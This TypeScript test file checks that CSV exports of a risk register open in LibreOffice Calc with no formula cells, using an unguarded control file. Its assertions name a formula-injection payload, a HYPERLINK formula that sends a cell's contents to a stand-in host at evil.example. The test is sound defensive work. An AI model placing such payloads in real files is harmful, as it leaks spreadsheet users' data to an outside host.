/**
 * The CSV exports opened in a real spreadsheet: LibreOffice Calc, headless, with the
 * import dialog's defaults and with "Trim spaces" (which turned ` =1+1` into a
 * formula before blanks counted). No cell of the hostile exports becomes a formula;
 * the same titles unguarded do, so the check can fail.
 *
 * Without `soffice` the test is skipped with the reason, or fails when
 * RISK_REQUIRE_TOOLS=1 (npm test sets it; scripts/e2e-setup.sh installs the tool).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { toCsv } from '../../../language/exports/csv.js';
import { buildPlan } from '../../../language/exports/plan.js';
import { buildRegister } from '../../../language/exports/register.js';
import { CSV_IMPORTS, findSoffice, formulaCells, importCsv } from '../../helpers/libreoffice.js';
import { HOSTILE_TITLES, loadHostileModel } from './hostile-model.js';

const soffice = findSoffice();
const required = process.env.RISK_REQUIRE_TOOLS === '1';
const MISSING = 'LibreOffice (soffice) is not on the PATH: install the Debian package libreoffice-calc-nogui, or run scripts/e2e-setup.sh';

if (!soffice && !required) {
    // The skip's note shows only in the verbose reporter: say it where everyone sees it.
    console.warn(`csv-spreadsheet.test.ts is skipped: ${MISSING}.`);
}

let folder: string;
/** The files to import: the hostile exports, and the control file of unguarded titles. */
let files: Record<'register' | 'registerBom' | 'plan' | 'unguarded', string>;

beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'risk-csv-spreadsheet-'));
    const evaluation = (await loadHostileModel()).evaluation();
    const register = buildRegister(evaluation, { baseDir: '/model' });
    const write = (name: string, content: string) => {
        writeFileSync(join(folder, name), content, 'utf8');
        return join(folder, name);
    };
    files = {
        register: write('register.csv', toCsv(register)),
        registerBom: write('register-bom.csv', toCsv(register, { bom: true })),
        plan: write('plan.csv', toCsv(buildPlan(evaluation))),
        unguarded: write('unguarded.csv', stringify([['ID', 'Title'], ...Object.entries(HOSTILE_TITLES)], { record_delimiter: '\r\n' }))
    };
});

afterAll(() => rmSync(folder, { recursive: true, force: true }));

describe.each(Object.entries(CSV_IMPORTS))('LibreOffice Calc, %s import', (_name, filterOptions) => {
    test('finds no formula cell in the hostile register (with and without BOM) and plan, and finds them unguarded', context => {
        if (!soffice) {
            if (required) {
                throw new Error(`${MISSING}. RISK_REQUIRE_TOOLS=1 makes a missing tool a failure.`);
            }
            context.skip(MISSING);
            return;
        }
        const imported = importCsv(soffice, Object.values(files), filterOptions);
        const formulas = (file: string) => formulaCells(imported.get(file.slice(folder.length + 1))!);
        expect(formulas(files.register)).toEqual([]);
        expect(formulas(files.registerBom)).toEqual([]);
        expect(formulas(files.plan)).toEqual([]);
        // The titles did reach the sheet, as text: the import read the files.
        expect(imported.get('register.csv')).toContain('Утечка данных');
        expect(imported.get('register.csv')).toContain('=HYPERLINK(');
        // The control: unguarded, the same titles are formulas, ` =1+1` among them only when spaces are trimmed.
        expect(formulas(files.unguarded)).toContain('of:=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;[.A1];&quot;click&quot;)');
        expect(formulas(files.unguarded).includes('of:=1+1')).toBe(filterOptions === CSV_IMPORTS.trimSpaces);
    }, 600_000);
});
